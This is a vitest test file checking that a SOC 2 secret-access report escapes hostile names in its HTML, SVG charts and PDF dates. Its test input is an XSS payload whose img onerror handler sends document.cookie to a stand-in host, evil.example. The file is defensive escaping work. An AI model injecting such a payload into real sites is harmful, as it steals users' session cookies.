// Security: names in a SOC 2 report come from the audit log, and a failed sign-in's user
// name is whatever the person typed. The page must show them as text, never run them,
// and load nothing: no script element, no event handler, no URL but the page's own.
import { describe, expect, it } from 'vitest';
import { renderSoc2Html } from '../../../../../src/main/services/compliance/soc2-html';
import { barChart, esc } from '../../../../../src/main/services/compliance/svg-charts';
import { normalizePdfDates } from '../../../../../src/main/services/compliance/pdf-printer';
import type { Soc2Report } from '../../../../../src/shared/contracts/compliance';

const HOSTILE = `<script>alert(1)</script><img src=x onerror="fetch('https://evil.example/'+document.cookie)">'&`;

function report(): Soc2Report {
  const buckets = ['0-29 days', '30-89 days', '90-179 days', '180-364 days', '365+ days'].map((label) => ({ label, count: 1 }));
  return {
    format: 'vault-console-soc2-secret-access',
    version: 1,
    period: { from: '2026-01-01T00:00:00.000Z', to: '2026-01-31T23:59:59.999Z' },
    vault: { address: `https://vault.example/${HOSTILE}`, mount: 'tenants' },
    secretAccess: {
      totals: { reads: 1, reveals: 1, downloads: 0, identities: 1, secrets: 1, tenants: 1 },
      byIdentity: [{ identity: HOSTILE, reads: 1, reveals: 1, downloads: 0, secrets: 1, tenants: 1 }],
      revealsAndDownloads: { total: 1, rows: [{ identity: HOSTILE, path: `t-000001/smtp/${HOSTILE}`, tenantId: 't-000001', type: 'smtp', action: 'reveal', count: 1, first: '2026-01-02T00:00:00.000Z', last: '2026-01-02T00:00:00.000Z', incidents: [], why: 'no reason recorded' }] },
    },
    rotation: {
      asOf: '2026-01-31T23:59:59.999Z',
      byType: (['ssh', 'smtp', 'dkim', 'api'] as const).map((type) => ({ type, secrets: 5, withinSchedule: 4, overdue: 1, shareWithinSchedule: 0.8, periodDays: 90, ageBuckets: buckets })),
      total: { secrets: 20, withinSchedule: 16, overdue: 4, shareWithinSchedule: 0.8 },
      overdueTotal: 1,
      overdue: [{ path: `t-000001/dkim/${HOSTILE}`, type: 'dkim', lastRotated: '2025-01-01T00:00:00.000Z', dueSince: '2026-01-01T00:00:00.000Z' }],
    },
    emergencyResets: { total: 0, consoleRecords: 0, byIncident: [], rows: [] },
    deletions: { total: 1, withApproval: 0, withoutApproval: 1, rows: [{ at: '2026-01-03T00:00:00.000Z', path: 't-000001/ssh/admin', deletedBy: HOSTILE, approvalId: null, headerApprovalId: null, requestedBy: null, approvedBy: null, notApproved: HOSTILE }] },
    backups: { attempts: 0, succeeded: 0, failed: 0, successRate: null, largestGapHours: null, largestGapFrom: null, largestGapTo: null, drills: [] },
    adminIdentities: { checked: true, complete: true, notes: [HOSTILE], policies: [{ name: HOSTILE, why: HOSTILE }], identities: [{ kind: 'userpass', name: HOSTILE, policies: [HOSTILE] }] },
    failedLogins: { total: 6, users: 1, addresses: 1, topUsers: [{ value: HOSTILE, count: 6 }], topAddresses: [{ value: '10.0.0.1', count: 6 }] },
    alerts: { total: 1, red: 1, yellow: 0, partialSince: null, rows: [{ kind: 'failed-auth-user', severity: 'red', title: `6 failed sign-ins for ${HOSTILE}`, subject: HOSTILE, from: '2026-01-02T00:00:00.000Z', to: '2026-01-02T00:01:00.000Z', events: 6 }] },
  };
}

describe('the SOC 2 page shows hostile names as text', () => {
  const html = renderSoc2Html(report());

  it('has no script, no event handler attribute, no link out, and a CSP that forbids them', () => {
    expect(html).not.toMatch(/<script/i);
    expect(html).not.toMatch(/<img/i);
    // Every tag the page has (text is escaped, so a hostile name cannot open one).
    const tags = html.match(/<[a-zA-Z][^>]*>/g) ?? [];
    expect(new Set(tags.map((t) => /^<([a-zA-Z0-9]+)/.exec(t)![1]!.toLowerCase()))).toEqual(
      new Set(['html', 'meta', 'title', 'style', 'head', 'body', 'main', 'h1', 'p', 'b', 'code', 'div', 'h2', 'svg', 'text', 'rect', 'table', 'thead', 'tr', 'th', 'tbody', 'td', 'h3', 'span', 'line', 'footer']),
    );
    for (const t of tags) expect(t).not.toMatch(/\s(on[a-z]+|src|href|xlink:href)=/i);
    expect(html).toContain(`content="default-src 'none'; style-src 'unsafe-inline'; img-src data:"`);
    expect(html).toContain(esc(HOSTILE));
  });

  it('escapes names in the SVG charts too', () => {
    const svg = barChart(HOSTILE, [{ label: HOSTILE, value: 3 }]);
    expect(svg).not.toMatch(/<script|<img|onerror="/i);
  });

  it('is the same bytes for the same report', () => {
    expect(renderSoc2Html(report())).toBe(html);
  });
});

describe('PDF dates', () => {
  it('replaces the wall-clock CreationDate and ModDate with the report time, keeping every offset', () => {
    const pdf = Buffer.from("%PDF-1.4\n1 0 obj <</Producer (Skia/PDF m156)\n/CreationDate (D:20261204175904+00'00')\n/ModDate (D:20261204175904+00'00')>>\nxref 123\n%%EOF", 'latin1');
    const out = normalizePdfDates(pdf, new Date('2026-01-31T23:59:59.999Z'));
    expect(out.length).toBe(pdf.length);
    expect(out.toString('latin1')).toContain("/CreationDate (D:20260131235959+00'00')");
    expect(out.toString('latin1')).toContain("/ModDate (D:20260131235959+00'00')");
  });
});
